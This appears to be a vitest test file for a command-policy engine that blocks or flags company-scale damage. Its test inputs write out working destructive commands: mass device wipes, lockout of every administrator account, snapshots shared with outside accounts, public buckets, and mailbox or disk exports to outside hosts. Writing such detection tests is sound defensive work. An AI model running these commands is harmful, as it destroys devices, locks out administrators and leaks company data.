/**
 * Damage at company scale (blind round 22's leftovers): devices wiped over a list, administrators locked out, data
 * shared outside the company — next to the single wipe, the named reset and the internal export that are everyday work.
 */
import { describe, expect, it } from 'vitest';
import { evaluatePolicy } from '../engine';
import { decisionOf as decision, evaluateLine } from './family-test-support';
import type { Shell } from '../types';

const reasons = (text: string, shell: Shell) => evaluateLine(text, shell).reasons;
const rules = (text: string, shell: Shell) => reasons(text, shell).map((r) => r.ruleId);

describe('managed devices wiped', () => {
  it('a wipe repeated over the device list is blocked, in PowerShell pipelines and loops, bash loops and xargs', () => {
    const pipeline =
      'Get-MgDeviceManagementManagedDevice -All | ForEach-Object { Invoke-MgWipeDeviceManagementManagedDevice -ManagedDeviceId $_.Id }';
    expect(decision(pipeline, 'powershell')).toBe('block');
    expect(rules(pipeline, 'powershell')).toContain('impact.device-wipe');
    const loop =
      '$all = Get-MgDeviceManagementManagedDevice -All\nforeach ($d in $all) { Invoke-MgRetireDeviceManagementManagedDevice -ManagedDeviceId $d.Id }';
    expect(decision(loop, 'powershell')).toBe('block');
    const graph =
      'foreach ($d in $devices) { Invoke-MgGraphRequest -Method POST -Uri "https://graph.microsoft.com/v1.0/deviceManagement/managedDevices/$($d.id)/wipe" }';
    expect(rules(graph, 'powershell')).toContain('impact.device-wipe');
    const jamf = [
      'for id in $(curl -s -H "Authorization: Bearer $TOKEN" "$JAMF/api/v1/computers-inventory" | jq -r ".results[].id"); do',
      '  curl -s -H "Authorization: Bearer $TOKEN" -X POST "$JAMF/JSSResource/computercommands/command/EraseDevice/passcode/123456/id/$id"',
      'done',
    ].join('\n');
    expect(decision(jamf, 'bash')).toBe('block');
    expect(
      decision('jq -r ".[].id" devices.json | xargs -I{} curl -X POST "https://acme.kandji.io/api/v1/devices/{}/action/erase"', 'bash'),
    ).toBe('block');
  });

  it('the blocked wipe marks the command and the erase request, and extended trust turns it into a flag', () => {
    const text = 'while read -r id; do curl -X POST "$JAMF/JSSResource/mobiledevicecommands/command/EraseDevice/id/$id"; done < ids.txt';
    const wipe = reasons(text, 'bash').find((r) => r.ruleId === 'impact.device-wipe');
    expect(wipe?.code).toBe('impact');
    expect(wipe?.spans.map((s) => text.slice(s.start, s.end))).toEqual([
      'curl',
      '"$JAMF/JSSResource/mobiledevicecommands/command/EraseDevice/id/$id"',
    ]);
    const extended = evaluatePolicy({
      text,
      shell: 'bash',
      platform: 'linux',
      context: {
        tenantState: 'active',
        trust: { level: 'extended', expiresAt: 10_000 },
        now: 0,
        blockedDestinations: [],
        permittedScriptHashes: [],
        history: [],
      },
    });
    expect(extended.decision).toBe('flag');
    expect(extended.reasons.map((r) => r.ruleId)).toContain('impact.device-wipe');
  });

  it('wiping the one lost laptop, and listing devices, stay allowed', () => {
    expect(
      decision(
        '$d = Get-MgDeviceManagementManagedDevice -Filter "deviceName eq \'NWL-LT-0193\'"\nInvoke-MgWipeDeviceManagementManagedDevice -ManagedDeviceId $d.Id -KeepUserData:$false',
        'powershell',
      ),
    ).toBe('allow');
    expect(decision('Get-MgDeviceManagementManagedDevice -All | Select-Object DeviceName, ComplianceState', 'powershell')).toBe('allow');
    expect(decision('curl -s -X POST "$JAMF/JSSResource/computercommands/command/EraseDevice/passcode/123456/id/512"', 'bash')).toBe(
      'allow',
    );
    // A loop that only reads device records.
    expect(decision('for id in $(cat ids); do curl -s "$JAMF/JSSResource/computers/id/$id" -o "$id.xml"; done', 'bash')).toBe('allow');
  });
});

describe('administrators locked out', () => {
  it('accounts taken from an administrators group and disabled or reset are flagged (AD, cmd, local, Entra, Linux)', () => {
    expect(
      rules("Get-ADGroupMember 'Domain Admins' | Where-Object SamAccountName -ne 'jmorales' | Disable-ADAccount", 'powershell'),
    ).toContain('impact.admin-lockout');
    const resets = [
      "$da = Get-ADGroupMember 'Domain Admins' -Recursive | Where-Object objectClass -eq 'user'",
      "$pw = ConvertTo-SecureString 'Locked0ut!!2024' -AsPlainText -Force",
      '$da | ForEach-Object { Set-ADAccountPassword $_ -Reset -NewPassword $pw }',
    ].join('\n');
    expect(rules(resets, 'powershell')).toContain('impact.admin-lockout');
    expect(decision(resets, 'powershell')).toBe('flag');
    expect(
      rules('for /f "skip=8 tokens=1-3" %a in (\'net group "Domain Admins" /domain\') do @net user %a /active:no /domain', 'cmd'),
    ).toContain('impact.admin-lockout');
    expect(
      rules('Get-LocalGroupMember -Group Administrators | ForEach-Object { Disable-LocalUser -Name $_.Name }', 'powershell'),
    ).toContain('impact.admin-lockout');
    expect(
      rules(
        '$role = Get-MgDirectoryRole -Filter "displayName eq \'Global Administrator\'"\nforeach ($m in Get-MgDirectoryRoleMember -DirectoryRoleId $role.Id) { Update-MgUser -UserId $m.Id -AccountEnabled:$false }',
        'powershell',
      ),
    ).toContain('impact.admin-lockout');
    expect(rules("for u in $(getent group sudo | cut -d: -f4 | tr ',' ' '); do usermod -L \"$u\"; done", 'bash')).toContain(
      'impact.admin-lockout',
    );
  });

  it('one account disabled or reset by name, and reading the admin group, stay allowed', () => {
    expect(decision("Get-ADGroupMember 'Domain Admins' | Select-Object Name", 'powershell')).toBe('allow');
    expect(decision('Disable-ADAccount -Identity p.okafor\nGet-ADGroupMember "Domain Admins" | Select Name', 'powershell')).toBe('allow');
    expect(decision('Set-ADAccountPassword -Identity a.kim -Reset -NewPassword $pw', 'powershell')).toBe('allow');
    expect(decision('net user p.okafor /active:no /domain', 'cmd')).toBe('allow');
    // Disabling the leavers of a CSV is ordinary offboarding: no administrators' group is read.
    expect(decision('Import-Csv leavers.csv | ForEach-Object { Disable-ADAccount -Identity $_.SamAccountName }', 'powershell')).toBe(
      'allow',
    );
  });
});

describe('data shared outside the company', () => {
  it('snapshots and images shared with another account or everyone are blocked', () => {
    for (const [text, shell] of [
      [
        'aws ec2 modify-snapshot-attribute --snapshot-id snap-0f3e2d1c4b5a69788 --attribute createVolumePermission --operation-type add --user-ids 739105628374',
        'bash',
      ],
      ['aws ec2 modify-snapshot-attribute --snapshot-id snap-1 --create-volume-permission "Add=[{Group=all}]"', 'bash'],
      ['aws ec2 modify-image-attribute --image-id ami-0abc --launch-permission "Add=[{UserId=123456789012}]"', 'bash'],
      ['aws rds modify-db-snapshot-attribute --db-snapshot-identifier erp-2024-06-14 --attribute-name restore --values-to-add all', 'bash'],
      [
        "gcloud compute images add-iam-policy-binding tw-db-export --member='allAuthenticatedUsers' --role='roles/compute.imageUser'",
        'bash',
      ],
    ] as const) {
      expect(rules(text, shell), text).toContain('exposure.snapshot-shared');
      expect(decision(text, shell), text).toBe('block');
    }
  });

  it("a disk's download URL is flagged, and blocked when a copy tool takes the disk away", () => {
    expect(rules('az snapshot grant-access -g rg -n s1 --duration-in-seconds 3600', 'bash')).toContain('exposure.disk-url');
    const copied =
      'az snapshot grant-access -g rg -n s1 --duration-in-seconds 36000 --query accessSas -o tsv | xargs -I{} azcopy copy {} "https://elsewhere.blob.core.windows.net/in/dc.vhd?sv=x"';
    expect(rules(copied, 'bash')).toContain('exposure.disk-copied');
    expect(decision(copied, 'bash')).toBe('block');
    expect(rules('Grant-AzDiskAccess -ResourceGroupName rg -DiskName d1 -DurationInSecond 3600 -Access Read', 'powershell')).toContain(
      'exposure.disk-url',
    );
  });

  it('storage made public is flagged; private buckets and policies for named principals are not', () => {
    for (const [text, shell] of [
      ['aws s3api delete-public-access-block --bucket invoices-2024', 'bash'],
      [
        'aws s3api put-bucket-policy --bucket inv --policy \'{"Statement":[{"Effect":"Allow","Principal":"*","Action":"s3:GetObject","Resource":"arn:aws:s3:::inv/*"}]}\'',
        'bash',
      ],
      ['aws s3api put-bucket-acl --bucket inv --acl public-read', 'bash'],
      ['az storage account update -n stbackups -g rg --allow-blob-public-access true', 'bash'],
      ['az storage container set-permission --name sql --public-access container --account-name stbackups', 'bash'],
      ['gsutil iam ch allUsers:objectViewer gs://exports', 'bash'],
      ['Set-AzStorageContainerAcl -Name sql -Permission Blob -Context $ctx', 'powershell'],
    ] as const) {
      expect(rules(text, shell), text).toContain('exposure.storage-public');
      expect(decision(text, shell), text).toBe('flag');
    }
    expect(
      decision('aws s3api put-public-access-block --bucket inv --public-access-block-configuration BlockPublicAcls=true', 'bash'),
    ).toBe('allow');
    expect(
      decision(
        'aws s3api put-bucket-policy --bucket inv --policy \'{"Statement":[{"Effect":"Allow","Principal":{"AWS":"arn:aws:iam::111122223333:role/backup"},"Action":"s3:GetObject"}]}\'',
        'bash',
      ),
    ).toBe('allow');
    expect(decision('az storage container create --name logs --account-name st1 --public-access off', 'bash')).toBe('allow');
    expect(decision('aws ec2 describe-snapshots --owner-ids self', 'bash')).toBe('allow');
  });

  it('a mailbox exported to an internet address is blocked; to the company file server it is offboarding', () => {
    const out = 'New-MailboxExportRequest -Mailbox d.ferreira -FilePath \\\\185.193.88.14\\upl\\df.pst';
    expect(rules(out, 'powershell')).toContain('exposure.mail-export');
    expect(decision(out, 'powershell')).toBe('block');
    expect(decision('New-MailboxExportRequest -Mailbox p.okafor -FilePath \\\\HVD-FS01\\Leavers$\\p.okafor.pst', 'powershell')).toBe(
      'allow',
    );
    expect(decision('New-MailboxExportRequest -Mailbox p.okafor -FilePath \\\\10.0.4.20\\pst$\\p.okafor.pst', 'powershell')).toBe('allow');
    const search =
      "New-ComplianceSearch -Name q3 -ExchangeLocation All -ContentMatchQuery 'password'\nNew-ComplianceSearchAction -SearchName q3 -Export";
    expect(rules(search, 'powershell')).toContain('exposure.mail-export');
    expect(decision('New-ComplianceSearchAction -SearchName q3 -Purge -PurgeType SoftDelete', 'powershell')).toBe('allow');
  });
});
